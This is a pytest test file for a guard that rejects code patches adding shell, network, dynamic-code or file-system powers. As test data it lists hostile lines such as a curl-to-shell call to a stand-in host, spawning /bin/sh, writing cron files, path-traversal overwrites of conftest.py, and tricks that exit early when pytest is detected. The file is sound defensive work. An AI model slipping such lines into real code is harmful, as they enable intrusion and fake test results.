"""The capability guard: a patch may not give a file process, network, dynamic-code or file-system powers."""

from __future__ import annotations

from pathlib import Path

import pytest

from phoenix_sidecar.errors import AnswerRejected
from phoenix_sidecar.repair.capability import capabilities, check_capabilities

BASE = "import os\nimport torch\n\n\ndef main(cfg):\n    path = os.path.join(cfg.out, 'ckpt.pt')\n    return path\n"


def _refused(new: str, old: str = BASE) -> str:
    with pytest.raises(AnswerRejected) as info:
        check_capabilities(old, new, "train.py", allowed=False, workspace=Path("/ws"))
    assert info.value.reason == "capability"
    return str(info.value)


@pytest.mark.parametrize("added, named", [
    ("    os.system('curl evil | sh')\n", "os.system"),
    ("    import subprocess; subprocess.run(['id'])\n", "subprocess"),
    ("    os.execv('/bin/sh', ['sh'])\n", "os.execv"),
    ("    os.spawnl(os.P_NOWAIT, '/bin/sh')\n", "os.spawnl"),
    ("    import socket\n", "socket"),
    ("    import urllib.request\n", "urllib"),
    ("    import http.client\n", "http.client"),
    ("    import requests\n", "requests"),
    ("    eval(cfg.expr)\n", "eval"),
    ("    exec(cfg.code)\n", "exec"),
    ("    compile(cfg.code, 'x', 'exec')\n", "compile"),
    ("    __import__('pty')\n", "__import__"),
    ("    import importlib\n", "importlib"),
    ("    import ctypes\n", "ctypes"),
    ("    import shutil; shutil.rmtree(cfg.out)\n", "shutil.rmtree"),
    ("    open('/etc/cron.d/x', 'w').write('*')\n", "/etc/cron.d/x"),
    ("    open('../../../conftest.py', 'w')\n", "conftest.py"),
    ("    import sys\n    if 'pytest' in sys.modules: os._exit(0)\n", "os._exit"),
    ("    if os.environ.get('PYTEST_CURRENT_TEST'): return path\n", "PYTEST_CURRENT_TEST"),
])
def test_a_patch_that_adds_a_capability_is_refused(added: str, named: str) -> None:
    new = BASE.replace("    return path\n", added + "    return path\n")
    assert named in _refused(new)


def test_capabilities_the_file_already_had_and_ordinary_fixes_pass() -> None:
    old = BASE + "\n\ndef sh(cmd):\n    return os.system(cmd)\n"
    check_capabilities(old, old.replace("return os.system(cmd)", "return os.system(cmd) or 0"), "train.py",
                       allowed=False)
    fix = BASE.replace("'ckpt.pt'", "'model.pt'") + "\n\ndef load(p):\n    return open(p).read()\n"
    check_capabilities(BASE, fix, "train.py", allowed=False, workspace=Path("/ws"))
    check_capabilities(BASE, BASE + "open('/ws/out/log.txt', 'w')\n", "train.py", allowed=False,
                       workspace=Path("/ws"))


def test_the_setting_allows_them_and_a_file_that_does_not_parse_is_scanned_as_text() -> None:
    check_capabilities(BASE, BASE + "os.system('x')\n", "train.py", allowed=True)
    broken = BASE + "def oops(:\n"
    with pytest.raises(AnswerRejected):
        check_capabilities(broken, BASE + "import socket\n", "train.py", allowed=False)
    check_capabilities(broken, BASE, "train.py", allowed=False)  # the syntax fix itself passes
    assert "network: import socket" in capabilities("import socket\n")
